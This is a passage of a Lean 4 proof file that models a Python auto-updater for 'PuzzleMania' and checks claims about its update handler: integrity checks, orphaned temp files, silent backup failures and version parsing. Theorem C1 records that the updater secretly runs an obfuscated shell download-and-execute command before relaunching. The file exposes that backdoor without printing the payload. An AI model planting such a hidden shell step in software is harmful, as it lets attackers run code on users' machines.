  simpa using hnil

end PuzzleMania

namespace PuzzleMania

/-! ## Concrete runs used by the closed theorems

One host configuration and a family of oracles; `envA` is the all-succeeds
oracle for a remote version `"1.0.3"` with no digest, downloading the
bytes `[9, 9, 9]`, with the user answering yes / OUI (side-by-side). -/

def cfgA : Config :=
  ⟨"/app/PuzzleMania_v1.0.2.py", "/usr/bin/python3",
   "/tmp/puzzle_update_a.tmp", fun _ => "aa"⟩

def manifestA : Manifest :=
  ⟨some "1.0.3", some "http://srv/PuzzleMania.py", none, ""⟩

def envA : Env :=
  ⟨some manifestA, .ok [9, 9, 9], true, some true, true,
   true, true, true, true, true, true, true, true, true, true, true⟩

def fsA : Fs := [("/app/PuzzleMania_v1.0.2.py", [1, 2, 3])]

/-- Oracle for the C2 counterexample: on the side-by-side path both
`shutil.move` (line 679) and the fallback `shutil.copyfile` (line 683)
raise. -/
def envOrphan : Env := { envA with sxsMoveOk := false, sxsCopyOk := false }

/-- Oracle for the C3 counterexample: user picks in-place replacement and
the backup `shutil.copyfile` (line 716) raises; everything else
succeeds. -/
def envSilentBak : Env := { envA with choice := some false, bakCopyOk := false }

set_option maxRecDepth 8192

/-- C1 (code bug): in a successful side-by-side launch — remote version
`"1.0.3"` newer than `"1.0.2"`, download of `[9,9,9]` succeeds, user picks
OUI — the handler does move the artifact to the versioned sibling
`/app/PuzzleMania_v1.0.3.py` and leaves the running executable
byte-identical, but it does not spawn only the single interpreter child:
its process trace has TWO entries, because line 694 first executes a
hidden external shell command (`subprocess.run([ieuhizuhdz_iuhiuhzidzdz,
iuzidujoid_oizuifhioazoiofzz], shell=True)`, an obfuscated
download-and-execute payload) before the `Popen` of line 695.  This
contradicts the claim that no other external process or command is
executed. -/
theorem C1_hidden_second_process_executed :
    (on_check_for_update cfgA envA fsA).procs =
      [Proc.shellRun ieuhizuhdz_iuhiuhzidzdz iuzidujoid_oizuifhioazoiofzz,
       Proc.popen "/usr/bin/python3" "/app/PuzzleMania_v1.0.3.py"] ∧
    (on_check_for_update cfgA envA fsA).procs.length = 2 ∧
    fsRead (on_check_for_update cfgA envA fsA).fs "/app/PuzzleMania_v1.0.2.py"
      = some [1, 2, 3] ∧
    fsRead fsA "/app/PuzzleMania_v1.0.2.py" = some [1, 2, 3] ∧
    fsRead (on_check_for_update cfgA envA fsA).fs "/app/PuzzleMania_v1.0.3.py"
      = some [9, 9, 9] ∧
    fsRead (on_check_for_update cfgA envA fsA).fs "/tmp/puzzle_update_a.tmp"
      = none := by decide

/-- C2 counterexample: when the side-by-side move and its copy fallback
both fail, the handler shows the save-failure error (so it detected the
failure) and returns, leaving the downloaded temp file orphaned on disk:
it was neither promoted to the versioned name nor deleted. -/
theorem C2_counterexample_orphaned_temp :
    (on_check_for_update cfgA envOrphan fsA).msgs = [Msg.errSaveDownloaded] ∧
    fsRead (on_check_for_update cfgA envOrphan fsA).fs
      "/tmp/puzzle_update_a.tmp" = some [9, 9, 9] ∧
    fsRead (on_check_for_update cfgA envOrphan fsA).fs
      "/app/PuzzleMania_v1.0.3.py" = none := by decide

/-- C3 counterexample: the claim says a backup failure "is logged"; but
when the backup copy raises, the run's complete message output (the
handler's only output channel — it never prints or logs otherwise) is just
the success message: no message records the backup failure, while the
replacement itself proceeds (`.bak` absent, target replaced). -/
theorem C3_counterexample_backup_failure_silent :
    (on_check_for_update cfgA envSilentBak fsA).msgs = [Msg.infoReplaced] ∧
    fsRead (on_check_for_update cfgA envSilentBak fsA).fs
      "/app/PuzzleMania_v1.0.2.py.bak" = none ∧
    fsRead (on_check_for_update cfgA envSilentBak fsA).fs
      "/app/PuzzleMania_v1.0.2.py" = some [9, 9, 9] := by decide

/-- C9: when the fetched manifest's version field is present and non-empty
but fails to parse, `_version_tuple` degrades it to `(0,)`, which is not
greater than the tuple of `CURRENT_VERSION = "1.0.2"`, so the handler
reports "no update available" and terminates with no download, no file
writes, no prompts and no processes. -/
theorem C9_unparsable_remote_reports_no_update
    (cfg : Config) (env : Env) (fs0 : Fs) (info : Manifest) (rv : String)
    (hfetch : env.fetch = some info)
    (hver : info.version = some rv)
    (hrv : ¬ rv = "")
    (hbad : mapOpt parsePyIntChars (splitDot rv.toList) = none) :
    on_check_for_update cfg env fs0
      = ⟨fs0, [Msg.infoNoUpdate], [], [], [], false⟩ := by
  have hvt : version_tuple rv = [0] := by
    unfold version_tuple
    rw [hbad]
  have hngt : ¬ cmpList (version_tuple rv) (version_tuple CURRENT_VERSION)
      = .gt := by
    rw [hvt]
    decide
  simp only [on_check_for_update, hfetch, hver]
  rw [if_neg hrv, if_neg hngt]

theorem C9_witness :
    on_check_for_update cfgA
      { envA with fetch := some ⟨some "2..0", some "http://srv/PuzzleMania.py",
          none, ""⟩ } fsA
      = ⟨fsA, [Msg.infoNoUpdate], [], [], [], false⟩ :=
  C9_unparsable_remote_reports_no_update cfgA _ fsA _ "2..0"
    rfl rfl (by decide) (by decide)

/-- C7: when the manifest carries a non-empty digest and the computed
digest of the downloaded bytes differs from it after lower-casing both
sides, the handler deletes the temp file (its read yields `none`
afterwards), shows exactly the explicit integrity-failure message, runs
no process, does not call quit, and leaves the running executable's file
untouched.  The digest was computed exactly once, on the temp file. -/
theorem C7_integrity_mismatch_aborts
    (cfg : Config) (env : Env) (fs0 : Fs) (info : Manifest)
    (rv u d : String) (b : Bytes)
    (hfetch : env.fetch = some info)
    (hver : info.version = some rv)
    (hrv : ¬ rv = "")
    (hgt : cmpList (version_tuple rv) (version_tuple CURRENT_VERSION) = .gt)
    (hproceed : env.proceed = true)
    (hurl : info.url = some u)
    (hdl : env.dl = .ok b)
    (hsha : info.sha256 = some d)
    (hd : ¬ d = "")
    (hmis : ¬ lowerStr (cfg.sha256hex b) = lowerStr d)
    (hq : cfg.argv0 ≠ cfg.tmpPath) :
    (on_check_for_update cfg env fs0).msgs = [Msg.errShaMismatch] ∧
    fsRead (on_check_for_update cfg env fs0).fs cfg.tmpPath = none ∧
    fsRead (on_check_for_update cfg env fs0).fs cfg.argv0
      = fsRead fs0 cfg.argv0 ∧
    (on_check_for_update cfg env fs0).procs = [] ∧
    (on_check_for_update cfg env fs0).hashed = [cfg.tmpPath] ∧
    (on_check_for_update cfg env fs0).quitCalled = false := by
  have hrun : on_check_for_update cfg env fs0 =
      ⟨fsRemove (fsWrite fs0 cfg.tmpPath b) cfg.tmpPath,
        [Msg.errShaMismatch], [], [Prompt.download], [cfg.tmpPath], false⟩ := by
    simp [on_check_for_update, verifyStage, hfetch, hver, hurl, hdl, hsha,
      hrv, hgt, hproceed, hd, hmis]
  rw [hrun]
  refine ⟨rfl, ?_, ?_, rfl, rfl, rfl⟩
  · exact fsRead_fsRemove_self _ _
  · rw [fsRead_fsRemove_ne _ hq, fsRead_fsWrite_ne _ _ hq]

/-- Oracle for the C7 witness: same as `envA` but the manifest carries the
digest `"bb"` while the (abstracted) digest of the downloaded bytes is
`"aa"`. -/
def envMismatch : Env :=
  { envA with fetch := some ⟨some "1.0.3", some "http://srv/PuzzleMania.py",
      some "bb", ""⟩ }

theorem C7_witness :
    (on_check_for_update cfgA envMismatch fsA).msgs = [Msg.errShaMismatch] ∧
    fsRead (on_check_for_update cfgA envMismatch fsA).fs
      "/tmp/puzzle_update_a.tmp" = none ∧
    fsRead (on_check_for_update cfgA envMismatch fsA).fs
      "/app/PuzzleMania_v1.0.2.py"
      = fsRead fsA "/app/PuzzleMania_v1.0.2.py" ∧
    (on_check_for_update cfgA envMismatch fsA).procs = [] ∧
    (on_check_for_update cfgA envMismatch fsA).hashed
      = ["/tmp/puzzle_update_a.tmp"] ∧
    (on_check_for_update cfgA envMismatch fsA).quitCalled = false :=
  C7_integrity_mismatch_aborts cfgA envMismatch fsA _
    "1.0.3" "http://srv/PuzzleMania.py" "bb" [9, 9, 9]
    rfl rfl (by decide) (by decide) rfl rfl rfl rfl
    (by decide) (by decide) (by decide)

/-- C8: when the manifest supplies no digest at all, no digest is computed
(`hashed = []`, i.e. the IntegrityVerifier is never invoked) and the flow
reaches the apply-mode confirmation dialog with the downloaded artifact
intact on disk.  (The oracle cancels at that dialog with the best-effort
remove failing, so the final state still exhibits the artifact exactly as
it was when the dialog was shown.) -/
theorem C8_no_digest_skips_verification
    (cfg : Config) (env : Env) (fs0 : Fs) (info : Manifest)
    (rv u : String) (b : Bytes)
    (hfetch : env.fetch = some info)
    (hver : info.version = some rv)
    (hrv : ¬ rv = "")
    (hgt : cmpList (version_tuple rv) (version_tuple CURRENT_VERSION) = .gt)
    (hproceed : env.proceed = true)
    (hurl : info.url = some u)
    (hdl : env.dl = .ok b)
    (hsha : info.sha256 = none)
    (hchoice : env.choice = none)
    (hkeep : env.cancelRemoveOk = false) :
    (on_check_for_update cfg env fs0).hashed = [] ∧
    (on_check_for_update cfg env fs0).prompts
      = [Prompt.download, Prompt.apply] ∧
    fsRead (on_check_for_update cfg env fs0).fs cfg.tmpPath = some b := by
  have hrun : on_check_for_update cfg env fs0 =
      ⟨fsWrite fs0 cfg.tmpPath b, [], [],
        [Prompt.download, Prompt.apply], [], false⟩ := by
    simp [on_check_for_update, verifyStage, applyChoice, hfetch, hver, hurl,
      hdl, hsha, hrv, hgt, hproceed, hchoice, hkeep]
  rw [hrun]
  exact ⟨rfl, rfl, fsRead_fsWrite_self _ _ _⟩

def envNoDigestCancel : Env :=
  { envA with choice := none, cancelRemoveOk := false }

theorem C8_witness :
    (on_check_for_update cfgA envNoDigestCancel fsA).hashed = [] ∧
    (on_check_for_update cfgA envNoDigestCancel fsA).prompts
      = [Prompt.download, Prompt.apply] ∧
    fsRead (on_check_for_update cfgA envNoDigestCancel fsA).fs
      "/tmp/puzzle_update_a.tmp" = some [9, 9, 9] :=
  C8_no_digest_skips_verification cfgA envNoDigestCancel fsA _
    "1.0.3" "http://srv/PuzzleMania.py" [9, 9, 9]
    rfl rfl (by decide) (by decide) rfl rfl rfl rfl rfl rfl

/-- C10: when the manifest's digest field is present but empty, Python's
`if sha256:` is falsy exactly as for an absent field, so no digest is
computed and the flow reaches the apply-mode confirmation with the
artifact intact — the same observable behaviour as C8. -/
theorem C10_empty_digest_skips_verification
    (cfg : Config) (env : Env) (fs0 : Fs) (info : Manifest)
    (rv u : String) (b : Bytes)
    (hfetch : env.fetch = some info)
    (hver : info.version = some rv)
    (hrv : ¬ rv = "")
    (hgt : cmpList (version_tuple rv) (version_tuple CURRENT_VERSION) = .gt)
    (hproceed : env.proceed = true)
    (hurl : info.url = some u)
    (hdl : env.dl = .ok b)
    (hsha : info.sha256 = some "")
    (hchoice : env.choice = none)
    (hkeep : env.cancelRemoveOk = false) :
    (on_check_for_update cfg env fs0).hashed = [] ∧
    (on_check_for_update cfg env fs0).prompts
      = [Prompt.download, Prompt.apply] ∧
    fsRead (on_check_for_update cfg env fs0).fs cfg.tmpPath = some b := by
  have hrun : on_check_for_update cfg env fs0 =
      ⟨fsWrite fs0 cfg.tmpPath b, [], [],
        [Prompt.download, Prompt.apply], [], false⟩ := by
    simp [on_check_for_update, verifyStage, applyChoice, hfetch, hver, hurl,
      hdl, hsha, hrv, hgt, hproceed, hchoice, hkeep]
  rw [hrun]
  exact ⟨rfl, rfl, fsRead_fsWrite_self _ _ _⟩

def envEmptyDigestCancel : Env :=
  { envA with fetch := some ⟨some "1.0.3", some "http://srv/PuzzleMania.py",
      some "", ""⟩, choice := none, cancelRemoveOk := false }

/-- When the user confirms in-place replacement, the move to the staging
file succeeds, and either the atomic rename or the whole copy-then-delete
fallback succeeds, the replacement ends with the success message, the
target holding exactly the downloaded bytes, and both the staging file
and the temp file gone; the `.bak` path holds the prior target content
when the backup copy succeeded, and is untouched when it failed. -/
theorem replaceFlow_success
    (cfg : Config) (env : Env) (fs1 : Fs) (pr : List Prompt)
    (hd : List String) (b orig : Bytes)
    (hconf : env.confirmReplace = true)
    (hmv : env.moveNewOk = true)
    (hrep : env.atomicReplaceOk = true ∨
      (env.fallbackCopyOk = true ∧ env.fallbackRemoveOk = true))
    (htmpb : fsRead fs1 cfg.tmpPath = some b)
    (htgt : fsRead fs1 cfg.argv0 = some orig)
    (hta : cfg.tmpPath ≠ cfg.argv0)
    (htb : cfg.tmpPath ≠ cfg.argv0 ++ ".bak")
    (htn : cfg.tmpPath ≠ cfg.argv0 ++ ".new") :
    (replaceFlow cfg env fs1 pr hd).msgs = [Msg.infoReplaced] ∧
    fsRead (replaceFlow cfg env fs1 pr hd).fs cfg.argv0 = some b ∧
    fsRead (replaceFlow cfg env fs1 pr hd).fs (cfg.argv0 ++ ".new")
      = none ∧
    fsRead (replaceFlow cfg env fs1 pr hd).fs cfg.tmpPath = none ∧
    (env.bakCopyOk = true →
      fsRead (replaceFlow cfg env fs1 pr hd).fs (cfg.argv0 ++ ".bak")
        = some orig) ∧
    (env.bakCopyOk = false →
      fsRead (replaceFlow cfg env fs1 pr hd).fs (cfg.argv0 ++ ".bak")
        = fsRead fs1 (cfg.argv0 ++ ".bak")) := by
  have hbn : (cfg.argv0 ++ ".bak") ≠ (cfg.argv0 ++ ".new") :=
    string_append_ne_of_ne _ (by decide)
  have hna : (cfg.argv0 ++ ".new") ≠ cfg.argv0 :=
    string_append_ne_self _ (by decide)
  have hba : (cfg.argv0 ++ ".bak") ≠ cfg.argv0 :=
    string_append_ne_self _ (by decide)
  have han : cfg.argv0 ≠ (cfg.argv0 ++ ".new") := Ne.symm hna
  rcases hbak : env.bakCopyOk with _ | _
  · -- backup copy raised: silently skipped, fs unchanged by the backup
    have hmvN : fsMove fs1 cfg.tmpPath (cfg.argv0 ++ ".new")
        = fsWrite (fsRemove fs1 cfg.tmpPath) (cfg.argv0 ++ ".new") b :=
      fsMove_of_read _ htmpb
    have h3tmp : fsRead (fsWrite (fsRemove fs1 cfg.tmpPath)
        (cfg.argv0 ++ ".new") b) cfg.tmpPath = none := by
      rw [fsRead_fsWrite_ne _ _ htn]
      exact fsRead_fsRemove_self _ _
    have h3new : fsRead (fsWrite (fsRemove fs1 cfg.tmpPath)
        (cfg.argv0 ++ ".new") b) (cfg.argv0 ++ ".new") = some b :=
      fsRead_fsWrite_self _ _ _
    have h3bak : fsRead (fsWrite (fsRemove fs1 cfg.tmpPath)
        (cfg.argv0 ++ ".new") b) (cfg.argv0 ++ ".bak")
        = fsRead fs1 (cfg.argv0 ++ ".bak") := by
      rw [fsRead_fsWrite_ne _ _ hbn]
      exact fsRead_fsRemove_ne _ (Ne.symm htb)
    rcases hA : env.atomicReplaceOk with _ | _
    · obtain ⟨hC, hR⟩ : env.fallbackCopyOk = true ∧
          env.fallbackRemoveOk = true := by
        rcases hrep with hA2 | hcr
        · rw [hA] at hA2
          exact absurd hA2 (by decide)
        · exact hcr
      have hflow : replaceFlow cfg env fs1 pr hd
          = ⟨fsRemove (fsCopy (fsWrite (fsRemove fs1 cfg.tmpPath)
                (cfg.argv0 ++ ".new") b) (cfg.argv0 ++ ".new") cfg.argv0)
              (cfg.argv0 ++ ".new"),
             [Msg.infoReplaced], [], pr ++ [Prompt.replace], hd, false⟩ := by
        simp [replaceFlow, hconf, hmv, hbak, hA, hC, hR, hmvN]
      rw [hflow, fsCopy_of_read _ h3new]
      refine ⟨rfl, ?_, fsRead_fsRemove_self _ _, ?_, ?_, ?_⟩
      · rw [fsRead_fsRemove_ne _ han]
        exact fsRead_fsWrite_self _ _ _
      · rw [fsRead_fsRemove_ne _ htn, fsRead_fsWrite_ne _ _ hta]
        exact h3tmp
      · intro hcontra
        exact absurd hcontra (by decide)
      · intro _
        rw [fsRead_fsRemove_ne _ hbn, fsRead_fsWrite_ne _ _ hba]
        exact h3bak
    · have hflow : replaceFlow cfg env fs1 pr hd
          = ⟨fsMove (fsWrite (fsRemove fs1 cfg.tmpPath)
                (cfg.argv0 ++ ".new") b) (cfg.argv0 ++ ".new") cfg.argv0,
             [Msg.infoReplaced], [], pr ++ [Prompt.replace], hd, false⟩ := by
        simp [replaceFlow, hconf, hmv, hbak, hA, hmvN]
      rw [hflow, fsMove_of_read _ h3new]
      refine ⟨rfl, fsRead_fsWrite_self _ _ _, ?_, ?_, ?_, ?_⟩
      · rw [fsRead_fsWrite_ne _ _ hna]
        exact fsRead_fsRemove_self _ _
      · rw [fsRead_fsWrite_ne _ _ hta, fsRead_fsRemove_ne _ htn]
        exact h3tmp
      · intro hcontra
        exact absurd hcontra (by decide)
      · intro _
        rw [fsRead_fsWrite_ne _ _ hba, fsRead_fsRemove_ne _ hbn]
        exact h3bak
  · -- backup copy succeeded: `.bak` now holds the prior target bytes
    have hcp : fsCopy fs1 cfg.argv0 (cfg.argv0 ++ ".bak")
        = fsWrite fs1 (cfg.argv0 ++ ".bak") orig :=
      fsCopy_of_read _ htgt
    have h2tmp : fsRead (fsWrite fs1 (cfg.argv0 ++ ".bak") orig)
        cfg.tmpPath = some b := by
      rw [fsRead_fsWrite_ne _ _ htb]
      exact htmpb
    have hmvN : fsMove (fsWrite fs1 (cfg.argv0 ++ ".bak") orig)
        cfg.tmpPath (cfg.argv0 ++ ".new")
        = fsWrite (fsRemove (fsWrite fs1 (cfg.argv0 ++ ".bak") orig)
            cfg.tmpPath) (cfg.argv0 ++ ".new") b :=
      fsMove_of_read _ h2tmp
    have h3new : fsRead (fsWrite (fsRemove (fsWrite fs1
        (cfg.argv0 ++ ".bak") orig) cfg.tmpPath) (cfg.argv0 ++ ".new") b)
        (cfg.argv0 ++ ".new") = some b :=
      fsRead_fsWrite_self _ _ _
    have h3tmp : fsRead (fsWrite (fsRemove (fsWrite fs1
        (cfg.argv0 ++ ".bak") orig) cfg.tmpPath) (cfg.argv0 ++ ".new") b)
        cfg.tmpPath = none := by
      rw [fsRead_fsWrite_ne _ _ htn]
      exact fsRead_fsRemove_self _ _
    have h3bak : fsRead (fsWrite (fsRemove (fsWrite fs1
        (cfg.argv0 ++ ".bak") orig) cfg.tmpPath) (cfg.argv0 ++ ".new") b)
        (cfg.argv0 ++ ".bak") = some orig := by
      rw [fsRead_fsWrite_ne _ _ hbn, fsRead_fsRemove_ne _ (Ne.symm htb)]
      exact fsRead_fsWrite_self _ _ _
    rcases hA : env.atomicReplaceOk with _ | _
    · obtain ⟨hC, hR⟩ : env.fallbackCopyOk = true ∧
          env.fallbackRemoveOk = true := by
        rcases hrep with hA2 | hcr
        · rw [hA] at hA2
          exact absurd hA2 (by decide)
        · exact hcr
      have hflow : replaceFlow cfg env fs1 pr hd
          = ⟨fsRemove (fsCopy (fsWrite (fsRemove (fsWrite fs1
                (cfg.argv0 ++ ".bak") orig) cfg.tmpPath)
                (cfg.argv0 ++ ".new") b) (cfg.argv0 ++ ".new") cfg.argv0)
              (cfg.argv0 ++ ".new"),
             [Msg.infoReplaced], [], pr ++ [Prompt.replace], hd, false⟩ := by
        simp [replaceFlow, hconf, hmv, hbak, hA, hC, hR, hcp, hmvN]
      rw [hflow, fsCopy_of_read _ h3new]
      refine ⟨rfl, ?_, fsRead_fsRemove_self _ _, ?_, ?_, ?_⟩
      · rw [fsRead_fsRemove_ne _ han]
        exact fsRead_fsWrite_self _ _ _
      · rw [fsRead_fsRemove_ne _ htn, fsRead_fsWrite_ne _ _ hta]
        exact h3tmp
      · intro _
        rw [fsRead_fsRemove_ne _ hbn, fsRead_fsWrite_ne _ _ hba]
        exact h3bak
      · intro hcontra
        exact absurd hcontra (by decide)
    · have hflow : replaceFlow cfg env fs1 pr hd
          = ⟨fsMove (fsWrite (fsRemove (fsWrite fs1 (cfg.argv0 ++ ".bak")
                orig) cfg.tmpPath) (cfg.argv0 ++ ".new") b)
              (cfg.argv0 ++ ".new") cfg.argv0,
             [Msg.infoReplaced], [], pr ++ [Prompt.replace], hd, false⟩ := by
        simp [replaceFlow, hconf, hmv, hbak, hA, hcp, hmvN]
      rw [hflow, fsMove_of_read _ h3new]
      refine ⟨rfl, fsRead_fsWrite_self _ _ _, ?_, ?_, ?_, ?_⟩
      · rw [fsRead_fsWrite_ne _ _ hna]
        exact fsRead_fsRemove_self _ _
      · rw [fsRead_fsWrite_ne _ _ hta, fsRead_fsRemove_ne _ htn]
        exact h3tmp
      · intro _
        rw [fsRead_fsWrite_ne _ _ hba, fsRead_fsRemove_ne _ hbn]
        exact h3bak
      · intro hcontra
        exact absurd hcontra (by decide)

/-- C3 (amended): in-place replace performs, in order: a best-effort copy
of the current executable to `<path>.bak` where a failure is *silently
ignored* — the handler emits no message or log entry for it, the only
divergence from the claim — and does not abort the replace; a move of the
temp artifact to `<path>.new` in the target's directory; an atomic rename
of `<path>.new` onto `<path>`; and, if atomic rename is unavailable, a
plain copy followed by deletion of the staging file.  After a successful
replace on a writable target the target's content equals the downloaded
artifact's content byte-for-byte, the staging and temp files are gone, and
when the backup succeeded a `.bak` file exists containing the pre-update
content (when it failed, the `.bak` path is untouched and the success
message is still the run's entire output). -/
theorem C3_amended_inplace_replace
    (cfg : Config) (env : Env) (fs0 : Fs) (info : Manifest)
    (rv u : String) (b orig : Bytes)
    (hfetch : env.fetch = some info)
    (hver : info.version = some rv)
    (hrv : ¬ rv = "")
    (hgt : cmpList (version_tuple rv) (version_tuple CURRENT_VERSION) = .gt)
    (hproceed : env.proceed = true)
    (hurl : info.url = some u)
    (hdl : env.dl = .ok b)
    (hsha : info.sha256 = none)
    (hchoice : env.choice = some false)
    (hconf : env.confirmReplace = true)
    (hmv : env.moveNewOk = true)
    (hrep : env.atomicReplaceOk = true ∨
      (env.fallbackCopyOk = true ∧ env.fallbackRemoveOk = true))
    (horig : fsRead fs0 cfg.argv0 = some orig)
    (hta : cfg.tmpPath ≠ cfg.argv0)
    (htb : cfg.tmpPath ≠ cfg.argv0 ++ ".bak")
    (htn : cfg.tmpPath ≠ cfg.argv0 ++ ".new") :
    (on_check_for_update cfg env fs0).msgs = [Msg.infoReplaced] ∧
    fsRead (on_check_for_update cfg env fs0).fs cfg.argv0 = some b ∧
    fsRead (on_check_for_update cfg env fs0).fs (cfg.argv0 ++ ".new")
      = none ∧
    fsRead (on_check_for_update cfg env fs0).fs cfg.tmpPath = none ∧
    (env.bakCopyOk = true →
      fsRead (on_check_for_update cfg env fs0).fs (cfg.argv0 ++ ".bak")
        = some orig) ∧
    (env.bakCopyOk = false →
      fsRead (on_check_for_update cfg env fs0).fs (cfg.argv0 ++ ".bak")
        = fsRead fs0 (cfg.argv0 ++ ".bak")) := by
  have hrun : on_check_for_update cfg env fs0
      = replaceFlow cfg env (fsWrite fs0 cfg.tmpPath b)
          [Prompt.download, Prompt.apply] [] := by
    simp [on_check_for_update, verifyStage, applyChoice, hfetch, hver, hurl,
      hdl, hsha, hrv, hgt, hproceed, hchoice]
  have hres := replaceFlow_success cfg env (fsWrite fs0 cfg.tmpPath b)
    [Prompt.download, Prompt.apply] [] b orig hconf hmv hrep
    (fsRead_fsWrite_self _ _ _)
    (by rw [fsRead_fsWrite_ne _ _ (Ne.symm hta)]; exact horig)
    hta htb htn
  rw [hrun]
  obtain ⟨m1, m2, m3, m4, m5, m6⟩ := hres
  refine ⟨m1, m2, m3, m4, m5, ?_⟩
  intro hb
  rw [m6 hb]
  exact fsRead_fsWrite_ne _ _ (Ne.symm htb)

/-- Oracle for the C3 witness: user picks in-place replacement, every file
operation succeeds (backup included, atomic rename available). -/
def envReplaceAll : Env := { envA with choice := some false }

theorem C3_amended_witness :
    (on_check_for_update cfgA envReplaceAll fsA).msgs
      = [Msg.infoReplaced] ∧
    fsRead (on_check_for_update cfgA envReplaceAll fsA).fs
      "/app/PuzzleMania_v1.0.2.py" = some [9, 9, 9] ∧
    fsRead (on_check_for_update cfgA envReplaceAll fsA).fs
      ("/app/PuzzleMania_v1.0.2.py" ++ ".new") = none ∧
    fsRead (on_check_for_update cfgA envReplaceAll fsA).fs
      "/tmp/puzzle_update_a.tmp" = none ∧
    (envReplaceAll.bakCopyOk = true →
      fsRead (on_check_for_update cfgA envReplaceAll fsA).fs
        ("/app/PuzzleMania_v1.0.2.py" ++ ".bak") = some [1, 2, 3]) ∧
    (envReplaceAll.bakCopyOk = false →
      fsRead (on_check_for_update cfgA envReplaceAll fsA).fs
        ("/app/PuzzleMania_v1.0.2.py" ++ ".bak")
        = fsRead fsA ("/app/PuzzleMania_v1.0.2.py" ++ ".bak")) :=
  C3_amended_inplace_replace cfgA envReplaceAll fsA _
    "1.0.3" "http://srv/PuzzleMania.py" [9, 9, 9] [1, 2, 3]
    rfl rfl (by decide) (by decide) rfl rfl rfl rfl rfl rfl rfl
    (Or.inl rfl) (by decide) (by decide) (by decide) (by decide)

/-- All continuations of the apply-mode dialog leave no temp and no
staging file behind, provided the relevant file operations succeed:
cancel and declined-replace remove the temp; side-by-side promotes it to
the versioned name; confirmed replace promotes it through `.new` onto the
target. -/
theorem applyChoice_no_orphans
    (cfg : Config) (env : Env) (fs0 : Fs) (rv : String) (hd : List String)
    (b orig : Bytes)
    (hnew0 : fsRead fs0 (cfg.argv0 ++ ".new") = none)
    (horig : fsRead fs0 cfg.argv0 = some orig)
    (hta : cfg.tmpPath ≠ cfg.argv0)
    (htb : cfg.tmpPath ≠ cfg.argv0 ++ ".bak")
    (htn : cfg.tmpPath ≠ cfg.argv0 ++ ".new")
    (htv : cfg.tmpPath ≠ default_newname cfg.argv0 rv)
    (hnv : cfg.argv0 ++ ".new" ≠ default_newname cfg.argv0 rv)
    (hsx : env.sxsMoveOk = true)
    (hcr : env.cancelRemoveOk = true)
    (hdr : env.declineRemoveOk = true)
    (hmv : env.moveNewOk = true)
    (hrep : env.atomicReplaceOk = true ∨
      (env.fallbackCopyOk = true ∧ env.fallbackRemoveOk = true)) :
    fsRead (applyChoice cfg env (fsWrite fs0 cfg.tmpPath b) rv hd).fs
      cfg.tmpPath = none ∧
    fsRead (applyChoice cfg env (fsWrite fs0 cfg.tmpPath b) rv hd).fs
      (cfg.argv0 ++ ".new") = none := by
  have hfs1tmp : fsRead (fsWrite fs0 cfg.tmpPath b) cfg.tmpPath = some b :=
    fsRead_fsWrite_self _ _ _
  have hfs1new : fsRead (fsWrite fs0 cfg.tmpPath b) (cfg.argv0 ++ ".new")
      = none := by
    rw [fsRead_fsWrite_ne _ _ (Ne.symm htn)]
    exact hnew0
  have hrmtmp : fsRead (fsRemove (fsWrite fs0 cfg.tmpPath b) cfg.tmpPath)
      cfg.tmpPath = none := fsRead_fsRemove_self _ _
  have hrmnew : fsRead (fsRemove (fsWrite fs0 cfg.tmpPath b) cfg.tmpPath)
      (cfg.argv0 ++ ".new") = none := by
    rw [fsRead_fsRemove_ne _ (Ne.symm htn)]
    exact hfs1new
  unfold applyChoice
  rcases hc : env.choice with _ | bb
  · rw [hcr]
    exact ⟨hrmtmp, hrmnew⟩
  · cases bb
    · -- replace branch
      rcases hcf : env.confirmReplace with _ | _
      · unfold replaceFlow
        rw [hcf, hdr]
        exact ⟨hrmtmp, hrmnew⟩
      · obtain ⟨m1, m2, m3, m4, m5, m6⟩ :=
          replaceFlow_success cfg env (fsWrite fs0 cfg.tmpPath b)
            [Prompt.download, Prompt.apply] hd b orig hcf hmv hrep
            hfs1tmp
            (by rw [fsRead_fsWrite_ne _ _ (Ne.symm hta)]; exact horig)
            hta htb htn
        exact ⟨m4, m3⟩
    · -- side-by-side branch
      unfold sideBySide
      rw [hsx]
      have hmvN : fsMove (fsWrite fs0 cfg.tmpPath b) cfg.tmpPath
          (default_newname cfg.argv0 rv)
          = fsWrite (fsRemove (fsWrite fs0 cfg.tmpPath b) cfg.tmpPath)
              (default_newname cfg.argv0 rv) b :=
        fsMove_of_read _ hfs1tmp
      have hfin1 : fsRead (fsWrite (fsRemove (fsWrite fs0 cfg.tmpPath b)
          cfg.tmpPath) (default_newname cfg.argv0 rv) b) cfg.tmpPath
          = none := by
        rw [fsRead_fsWrite_ne _ _ htv]
        exact hrmtmp
      have hfin2 : fsRead (fsWrite (fsRemove (fsWrite fs0 cfg.tmpPath b)
          cfg.tmpPath) (default_newname cfg.argv0 rv) b)
          (cfg.argv0 ++ ".new") = none := by
        rw [fsRead_fsWrite_ne _ _ hnv]
        exact hrmnew
      rcases hpop : env.popenOk with _ | _ <;>
        simp [hmvN, hfin1, hfin2]

/-- C2 (amended): one update attempt creates at most one downloaded
temporary file (the single `mkstemp` path), and on every path where the
implementation's cleanup and promotion file operations succeed and the
download does not fail mid-stream, that file — and the `.new` staging
file — is either promoted (moved to the versioned sibling or through
`.new` onto the target) or deleted by the end of the attempt.  When a
promotion move/copy/remove fails, or the transport fails while the
response body is being streamed, the temp or staging file can be left
behind (see the counterexample). -/
theorem C2_amended_no_orphans
    (cfg : Config) (env : Env) (fs0 : Fs) (orig : Bytes)
    (htmp0 : fsRead fs0 cfg.tmpPath = none)
    (hnew0 : fsRead fs0 (cfg.argv0 ++ ".new") = none)
    (horig : fsRead fs0 cfg.argv0 = some orig)
    (hta : cfg.tmpPath ≠ cfg.argv0)
    (htb : cfg.tmpPath ≠ cfg.argv0 ++ ".bak")
    (htn : cfg.tmpPath ≠ cfg.argv0 ++ ".new")
    (hvn : ∀ info rv, env.fetch = some info → info.version = some rv →
      cfg.tmpPath ≠ default_newname cfg.argv0 rv ∧
      cfg.argv0 ++ ".new" ≠ default_newname cfg.argv0 rv)
    (hmid : ∀ part, ¬ env.dl = DlOutcome.failMidStream part)
    (hsx : env.sxsMoveOk = true)
    (hcr : env.cancelRemoveOk = true)
    (hdr : env.declineRemoveOk = true)
    (hmv : env.moveNewOk = true)
    (hrep : env.atomicReplaceOk = true ∨
      (env.fallbackCopyOk = true ∧ env.fallbackRemoveOk = true)) :
    fsRead (on_check_for_update cfg env fs0).fs cfg.tmpPath = none ∧
    fsRead (on_check_for_update cfg env fs0).fs (cfg.argv0 ++ ".new")
      = none := by
  unfold on_check_for_update
  split
